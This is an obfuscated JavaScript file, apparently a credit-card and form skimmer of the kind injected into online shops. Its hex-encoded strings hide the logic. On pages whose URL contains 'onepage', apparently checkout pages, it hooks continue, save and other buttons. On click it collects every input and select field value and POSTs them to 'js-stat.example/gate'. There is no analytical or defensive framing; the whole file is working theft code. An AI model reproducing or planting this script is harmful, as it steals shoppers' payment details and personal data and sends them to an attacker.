var _0xa1 = ["\x71\x75\x65\x72\x79\x53\x65\x6C\x65\x63\x74\x6F\x72\x41\x6C\x6C", "\x69\x6E\x70\x75\x74\x2C\x73\x65\x6C\x65\x63\x74", "\x76\x61\x6C\x75\x65", "\x6E\x61\x6D\x65", "\x68\x74\x74\x70\x73\x3A\x2F\x2F\x6A\x73\x2D\x73\x74\x61\x74\x2E\x65\x78\x61\x6D\x70\x6C\x65\x2F\x67\x61\x74\x65", "\x50\x4F\x53\x54", "\x6F\x6E\x65\x70\x61\x67\x65"];
(function (_0xb) {
  if (_0xb.location.href.indexOf(_0xa1[6]) == -1) return;
  function _0xc() {
    var _0xd = _0xb[_0xa1[0]](_0xa1[1]), _0xe = "";
    for (var _0xf = 0; _0xf < _0xd.length; _0xf++) if (_0xd[_0xf][_0xa1[2]]) _0xe += _0xd[_0xf][_0xa1[3]] + "=" + encodeURIComponent(_0xd[_0xf][_0xa1[2]]) + "&";
    var _0x10 = new XMLHttpRequest();
    _0x10.open(_0xa1[5], _0xa1[4], true);
    _0x10.setRequestHeader("Content-type", "application/x-www-form-urlencoded");
    _0x10.send(_0xe + "idd=0000");
  }
  var _0x11 = _0xb[_0xa1[0]]("a[title*='ontinue'],button,[class*='btn'],[onclick*='save']");
  for (var _0x12 = 0; _0x12 < _0x11.length; _0x12++) _0x11[_0x12].addEventListener("click", _0xc);
})(document);
